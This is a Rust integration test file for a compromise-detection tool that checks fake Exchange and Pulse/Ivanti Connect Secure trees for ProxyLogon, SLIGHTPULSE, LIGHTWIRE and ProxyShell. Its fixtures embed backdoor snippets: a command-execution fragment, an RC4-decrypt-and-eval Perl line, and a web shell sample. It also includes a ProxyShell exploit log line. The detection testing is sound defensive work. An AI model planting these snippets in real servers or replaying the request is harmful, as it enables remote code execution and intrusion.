//! `ferret check` end to end: verdicts and exit statuses over a fake Exchange tree, in text,
//! JSONL and CSV; a named campaign with no inputs; a bad campaign name; a genuine-shaped Pulse
//! Connect Secure appliance (vendor key and signature made at test time with `openssl`) with
//! and without SLIGHTPULSE's published code in `meeting_testjs.cgi`; the same appliance under its
//! Ivanti Connect Secure name, with and without LIGHTWIRE; ProxyShell over the Exchange host.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command as Process;

use assert_cmd::Command;
use ferret_testkit::Tree;
use serde_json::Value;

use common::summary_of as summary;

const V15: &str = "Program Files/Microsoft/Exchange Server/V15";
const IIS_HEADER: &str = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n";

/// An Exchange server's drive: the product's pages, IIS logs of ordinary traffic.
fn clean_host() -> Tree {
    let t = Tree::new();
    t.file(
        format!("{V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx"),
        "<%@ Page Language=\"C#\" %>sign in",
    );
    t.file("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/readme.txt", "client files");
    let mut log = IIS_HEADER.to_owned();
    for i in 0..10 {
        log.push_str(&format!(
            "2021-02-01 10:00:0{i} 10.0.0.2 GET /owa/ - 443 - 192.0.2.{i} Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 5\n"
        ));
    }
    t.file("inetpub/logs/LogFiles/W3SVC1/u_ex210201.log", log);
    t
}

fn ferret(args: &[&str], path: &Path) -> (i32, String) {
    let out = Command::cargo_bin("ferret")
        .unwrap()
        .arg("check")
        .args(args)
        .arg("-q")
        .arg(path)
        .output()
        .unwrap();
    (out.status.code().unwrap(), String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn clean_host_is_not_found_and_exits_zero() {
    let t = clean_host();
    let (code, out) = ferret(&["--format", "jsonl"], t.root());
    assert_eq!(code, 0, "{out}");
    let s = summary(&out);
    let v = &s["details"]["verdicts"];
    assert_eq!(v.as_array().unwrap().len(), 1, "only the campaign with inputs: {v}");
    assert_eq!(v[0]["campaign"], "proxylogon");
    assert_eq!(v[0]["verdict"], "not_found");
    assert_eq!(v[0]["sources"][0]["source"], "iis");
    assert_eq!(v[0]["sources"][0]["first"], "2021-02-01T10:00:00Z");
    assert!(v[0]["not_checked"].to_string().contains("PL002"), "{v}");
}

#[test]
fn planted_shell_is_affected_and_exits_one() {
    let t = clean_host();
    let shell = ferret_testkit::samples::chopper_script("k");
    t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
    let (code, out) = ferret(&[], t.root());
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("Verdicts:"), "{out}");
    assert!(out.contains("proxylogon") && out.contains("AFFECTED"), "{out}");
    assert!(out.contains("PL006"), "{out}");
    let (code, csv) = ferret(&["--format", "csv"], t.root());
    assert_eq!(code, 1);
    assert!(csv.lines().any(|l| l.starts_with("verdict,check,,,proxylogon,AFFECTED")), "{csv}");
    assert!(
        csv.lines().any(|l| l.starts_with("finding,check,critical,") && l.contains("PL006")),
        "{csv}"
    );
}

#[test]
fn named_campaign_without_inputs_is_unknown_and_exits_three() {
    let t = clean_host();
    let (code, out) = ferret(&["--campaign", "sunburst", "--format", "jsonl"], t.root());
    assert_eq!(code, 3, "{out}");
    let s = summary(&out);
    assert_eq!(s["details"]["verdicts"][0]["verdict"], "unknown");
    assert_eq!(s["complete"], false);
}

#[test]
fn unknown_campaign_is_a_usage_error() {
    let t = clean_host();
    let (code, _) = ferret(&["--campaign", "nimda"], t.root());
    assert_eq!(code, 2);
}

#[test]
fn check_report_carries_the_intel_sha256() {
    let t = clean_host();
    let (_, a) = ferret(&["--format", "jsonl"], t.root());
    let sha = summary(&a)["tool"]["ruleset_sha256"].as_str().expect("ruleset_sha256").to_owned();
    assert_eq!(sha.len(), 64, "{sha}");
    let (_, b) = ferret(&["--format", "jsonl"], t.root());
    assert_eq!(summary(&b)["tool"]["ruleset_sha256"], sha.as_str());
}

/// Severity follows the score on every finding of a check report.
#[test]
fn check_findings_severity_follows_score() {
    let t = clean_host();
    let shell = ferret_testkit::samples::chopper_script("k");
    t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
    t.file("inetpub/wwwroot/aspnet_client/other.aspx", "<%@ Page %>custom page");
    let (_, out) = ferret(&["--format", "jsonl"], t.root());
    let mut n = 0;
    for v in out.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()) {
        if v["type"] != "finding" {
            continue;
        }
        n += 1;
        let score = v["score"].as_u64().unwrap();
        let want = match score {
            90.. => "critical",
            75..=89 => "high",
            60..=74 => "medium",
            40..=59 => "low",
            _ => "info",
        };
        assert_eq!(v["severity"], want, "{v}");
    }
    assert!(n >= 2, "{out}");
}

/// Runs `openssl` with `args`; `None` (with a visible skip, a failure under
/// `FERRET_STRICT_TESTS=1`) when it is not installed.
#[expect(clippy::print_stderr, reason = "a skipped test says why")]
fn openssl(args: &[&std::ffi::OsStr]) -> Option<()> {
    match Process::new("openssl").args(args).output() {
        Ok(o) => {
            assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
            Some(())
        }
        Err(e) => {
            assert!(
                std::env::var_os("FERRET_STRICT_TESTS").is_none(),
                "openssl is needed for this test: {e}"
            );
            eprintln!("SKIPPED: openssl is not installed ({e})");
            None
        }
    }
}

/// Genuine appliance pages that published families modify (paths as on the appliance).
fn genuine_pages() -> Vec<(&'static str, String)> {
    let page = |what: &str| {
        format!(
            "#!/usr/bin/perl\nuse strict;\nuse CGI;\nmy $id = CGI::param('id');\nprint \"Content-type: text/html\\n\\n\";\nprint \"<html><body>{what}</body></html>\\n\";\n"
        )
    };
    vec![
        (
            "/home/webserver/htdocs/dana-na/meeting/meeting_testjs.cgi",
            "#!/usr/bin/perl\nuse CGI;\nprint \"Content-type: text/javascript\\n\\n\";\nprint \"var meetingTest = 1;\\n\";\n".to_owned(),
        ),
        ("/home/webserver/htdocs/dana-na/auth/url_default/welcome.cgi", page("welcome")),
        ("/home/webserver/htdocs/dana-na/auth/compcheckresult.cgi", page("compliance")),
        ("/home/webserver/htdocs/dana-na/auth/url_default/secid_canceltoken.cgi", page("token")),
        ("/home/webserver/htdocs/dana-na/auth/compcheckjava.cgi", page("java check")),
        ("/home/webserver/htdocs/dana-na/licenseserver/licenseserverproto.cgi", page("license")),
        ("/home/perl/DSUpgrade.pm", "package DSUpgrade;\nuse strict;\nsub run { return 0; }\n1;\n".to_owned()),
        ("/home/bin/dsserver", "\u{7f}ELF test dsserver".to_owned()),
    ]
}

/// Builds the appliance under `t` (`pcs/`), its manifest signed with a vendor key made here;
/// returns the vendor public key's path, or `None` when openssl is missing.
fn appliance(t: &Tree, pages: &[(&str, String)]) -> Option<PathBuf> {
    use sha2::Digest as _;
    let keys = t.root().join("vendor-keys");
    std::fs::create_dir_all(&keys).unwrap();
    let key = keys.join("vendor.key.pem");
    let public = keys.join("vendor.pub.pem");
    openssl(&["genrsa".as_ref(), "-out".as_ref(), key.as_os_str(), "2048".as_ref()])?;
    openssl(&[
        "rsa".as_ref(),
        "-in".as_ref(),
        key.as_os_str(),
        "-pubout".as_ref(),
        "-out".as_ref(),
        public.as_os_str(),
    ])?;
    let mut manifest = String::new();
    for (p, c) in pages {
        t.file(format!("pcs{p}"), c);
        manifest.push_str(&format!("{p} {}\n", hex::encode(sha2::Sha256::digest(c.as_bytes()))));
    }
    let m = t.file("pcs/home/etc/manifest/manifest", &manifest);
    let sig = t.root().join("pcs/home/etc/manifest/manifest.1");
    openssl(&[
        "dgst".as_ref(),
        "-sha512".as_ref(),
        "-sign".as_ref(),
        key.as_os_str(),
        "-out".as_ref(),
        sig.as_os_str(),
        m.as_os_str(),
    ])?;
    t.file("pcs/home/etc/manifest/manifest.2", std::fs::read(&public).unwrap());
    Some(public)
}

/// The genuine pages with SLIGHTPULSE's published code added to `meeting_testjs.cgi`.
fn slightpulse_pages() -> Vec<(&'static str, String)> {
    let mut pages = genuine_pages();
    pages[0].1.push_str(
        &[
            "if (CGI::pa",
            "ram('img')) { show(); } elsif (1) {\n",
            "  sys",
            "tem(\"$cmd > /tmp/7 2>",
            "&1\");\n",
            "  open(*F, \"< $out\");\n  while (<F>) { print; }\n",
            "  print \"Content-type: ima",
            "ge/gif\\n\\n\";\n}\n",
        ]
        .concat(),
    );
    pages
}

/// The appliance's data partition as an ext4 volume in a GPT disk image (as an appliance's
/// disk is acquired): the Pulse detectors find the appliance by its paths inside the image,
/// as on a mounted tree, with the same verdicts; the shell is named by its appliance path.
#[test]
fn pulse_appliance_inside_an_ext4_disk_image_gets_the_same_verdicts() {
    use ferret_testkit::disk::{e2fs_tools, ext_volume, gpt_disk};
    if !ferret_testkit::require("e2fsprogs' mke2fs (Debian package e2fsprogs)", e2fs_tools()) {
        return;
    }
    for (pages, want_code, verdict) in
        [(genuine_pages(), 0, "not_found"), (slightpulse_pages(), 1, "affected")]
    {
        let t = Tree::new();
        let Some(public) = appliance(&t, &pages) else { return };
        let vol = t.path("data.ext4");
        ext_volume(&vol, "ext4", &t.root().join("pcs"), 16, &[]);
        let disk = t.path("pcs-disk.img");
        gpt_disk(&disk, &[&vol], false);
        let key = public.to_string_lossy().into_owned();
        let (code, out) = ferret(&["--vendor-key", &key, "--format", "jsonl"], &disk);
        assert_eq!(code, want_code, "{out}");
        let s = summary(&out);
        let v = &s["details"]["verdicts"][0];
        assert_eq!(v["campaign"], "pulse-secure", "{s}");
        assert_eq!(v["verdict"], verdict, "{s}");
        if want_code == 1 {
            let finding = out
                .lines()
                .map(|l| serde_json::from_str::<Value>(l).unwrap())
                .find(|r| r["type"] == "finding" && r["rule"]["id"] == "PS004")
                .unwrap_or_else(|| panic!("{out}"));
            assert_eq!(
                finding["path"], "/home/webserver/htdocs/dana-na/meeting/meeting_testjs.cgi",
                "{finding}"
            );
            assert_eq!(finding["provenance"]["filesystem"], "ext4", "{finding}");
        }
    }
}

/// Every page whose name the families reuse, genuine and vendor-signed: NOT FOUND, exit 0.
#[test]
fn genuine_pulse_appliance_is_not_found_and_exits_zero() {
    let t = Tree::new();
    let Some(public) = appliance(&t, &genuine_pages()) else { return };
    let key = public.to_string_lossy().into_owned();
    let (code, out) = ferret(&["--vendor-key", &key, "--format", "jsonl"], &t.root().join("pcs"));
    assert_eq!(code, 0, "{out}");
    assert!(!out.lines().any(|l| l.contains("\"type\":\"finding\"")), "{out}");
    let s = summary(&out);
    assert_eq!(s["details"]["verdicts"][0]["campaign"], "pulse-secure", "{s}");
    assert_eq!(s["details"]["verdicts"][0]["verdict"], "not_found", "{s}");
}

/// The same appliance with SLIGHTPULSE's published code in `meeting_testjs.cgi` (the manifest
/// re-hashed and vendor-signed, as with a leaked key): AFFECTED, exit 1.
#[test]
fn slightpulse_in_meeting_testjs_is_affected_and_exits_one() {
    let t = Tree::new();
    let Some(public) = appliance(&t, &slightpulse_pages()) else { return };
    let key = public.to_string_lossy().into_owned();
    let (code, out) = ferret(&["--vendor-key", &key], &t.root().join("pcs"));
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("pulse-secure") && out.contains("AFFECTED"), "{out}");
    assert!(out.contains("PS004") && out.contains("SLIGHTPULSE"), "{out}");
}

/// The same genuine appliance under its Ivanti Connect Secure name: NOT FOUND, exit 0; with
/// LIGHTWIRE's published code added to `compcheckresult.cgi` (manifest re-signed, as with a
/// leaked key): AFFECTED, exit 1.
#[test]
fn ivanti_connect_secure_verdicts_and_exit_statuses() {
    let t = Tree::new();
    let Some(public) = appliance(&t, &genuine_pages()) else { return };
    let key = public.to_string_lossy().into_owned();
    let args = ["--campaign", "ivanti-connect-secure", "--vendor-key", &key, "--format", "jsonl"];
    let (code, out) = ferret(&args, &t.root().join("pcs"));
    assert_eq!(code, 0, "{out}");
    let s = summary(&out);
    assert_eq!(s["details"]["verdicts"][0]["campaign"], "ivanti-connect-secure", "{s}");
    assert_eq!(s["details"]["verdicts"][0]["verdict"], "not_found", "{s}");

    let t = Tree::new();
    let mut pages = genuine_pages();
    pages[2].1.push_str(concat!(
        "eval{my $c=Crypt::RC4->new(\"k\");my $d=$c->RC4(decode_base64(CGI::param('cid')));",
        ";eval $d;};if($@){print \"Compatibility check: $@\";}\n"
    ));
    let Some(public) = appliance(&t, &pages) else { return };
    let key = public.to_string_lossy().into_owned();
    let args = ["--campaign", "ivanti-connect-secure", "--vendor-key", &key, "--format", "jsonl"];
    let (code, out) = ferret(&args, &t.root().join("pcs"));
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("\"IC001\""), "{out}");
    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "affected");
}

/// An Exchange host whose IIS logs cover August 2021: ProxyShell NOT FOUND (exit 0); with the
/// Autodiscover path confusion in them, AFFECTED (exit 1); logs that end before August 2021
/// cannot show it: UNKNOWN (exit 3).
#[test]
fn proxyshell_verdicts_and_exit_statuses() {
    let t = clean_host();
    let mut log = IIS_HEADER.to_owned();
    for i in 0..10 {
        log.push_str(&format!(
            "2021-08-10 10:00:0{i} 10.0.0.2 GET /autodiscover/autodiscover.json Email=u{i}@example.org&Protocol=ActiveSync 443 - 192.0.2.{i} Outlook-iOS/2.0 - 200 0 0 5\n"
        ));
    }
    t.file("inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", &log);
    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
    assert_eq!(code, 0, "{out}");
    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "not_found", "{out}");

    log.push_str("2021-08-12 03:04:05 10.0.0.2 POST /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 203.0.113.9 python-requests/2.26.0 - 200 0 0 40\n");
    t.file("inetpub/logs/LogFiles/W3SVC1/u_ex210810.log", &log);
    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("\"PX001\""), "{out}");

    let t = clean_host();
    let (code, out) = ferret(&["--campaign", "proxyshell", "--format", "jsonl"], t.root());
    assert_eq!(code, 3, "{out}");
    assert_eq!(summary(&out)["details"]["verdicts"][0]["verdict"], "unknown", "{out}");
}
